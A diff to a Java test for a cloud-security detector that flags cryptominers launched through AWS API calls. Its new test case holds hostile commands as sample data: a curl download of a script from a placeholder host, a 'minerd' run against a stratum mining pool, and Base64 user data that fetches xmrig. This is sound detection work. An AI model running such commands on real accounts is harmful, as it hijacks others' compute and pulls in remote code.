@@ -21,7 +21,8 @@ import dev.loupe.core.store.EvidenceStore;
 /**
  * GPUs asked for the ways miners ask when RunInstances is watched or refused: spot requests, fleets, launch
  * templates, scaling groups, EKS node groups, Batch and SageMaker, a stopped instance's type changed, and a raise
- * of the quota that bounds them. Each request names its types in its own place and case.
+ * of the quota that bounds them. Each request names its types in its own place and case. And miners named in what a
+ * call sets running.
  */
 class MinerCapacityTest {
 	static final Instant T = Instant.parse("2025-10-05T02:00:00Z");
@@ -90,6 +91,29 @@ class MinerCapacityTest {
 			assertEquals(List.of("access-denied-burst", "compute-quota-raised", "unusual-compute-requested"),
 					q.members().stream().map(s -> s.detector().substring(s.detector().lastIndexOf('/') + 1)).toList());
 		}
+	}
+
+	/**
+	 * A miner named in what a call sets running: a task's image and pool, a command sent to instances, an instance's
+	 * user data (in Base64). A responder's command that kills and removes the miner, and an everyday task, are not.
+	 */
+	@Test
+	void aMinerNamedInWhatACallSetsRunningIsImpact(@TempDir Path dir) throws IOException {
+		ArrayNode calls = ScenarioTest.JSON.createArrayNode();
+		calls.add(ask("ecs", "RegisterTaskDefinition", r -> r.put("family", "w").putArray("containerDefinitions").addObject().put("name", "w")
+				.put("image", "docker.io/xmrig/xmrig:6.21.0").putArray("command").add("-o").add("pool.supportxmr.com:443")));
+		calls.add(ask("ecs", "RegisterTaskDefinition", r -> r.put("family", "web").putArray("containerDefinitions").addObject()
+				.put("name", "web").put("image", "public.ecr.aws/nginx/nginx:1.27")));
+		calls.add(ask("ssm", "SendCommand", r -> r.put("documentName", "AWS-RunShellScript").putObject("parameters").putArray("commands")
+				.add("curl -s http://203.0.113.66/s.sh -o /tmp/s.sh").add("nohup /tmp/.x/minerd -a cryptonight -o stratum+tcp://45.9.148.21:3333 &")));
+		calls.add(ask("ssm", "SendCommand", r -> r.put("documentName", "AWS-RunShellScript").putObject("parameters").putArray("commands")
+				.add("pkill -9 -f xmrig; rm -rf /tmp/.x/xmrig").add("systemctl stop kinsing")));
+		String script = "#!/bin/bash\nyum install -y git\ncurl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz | tar xz\n";
+		calls.add(ask("ec2", "RunInstances", r -> r.put("instanceType", "c6i.8xlarge").put("userData",
+				java.util.Base64.getEncoder().encodeToString(script.getBytes(java.nio.charset.StandardCharsets.UTF_8)))));
+		assertEquals(List.of("RegisterTaskDefinition TA0040 miner-set-running", "SendCommand TA0040 miner-set-running",
+				"SendCommand TA0002 ssm-send-command", "SendCommand TA0002 ssm-send-command", "RunInstances TA0040 miner-set-running"),
+				TamperingAndSharingTest.described(dir, calls, Findings.Signal::tactic));
 	}
 
 	private ObjectNode ask(String service, String name, Consumer<ObjectNode> request) {
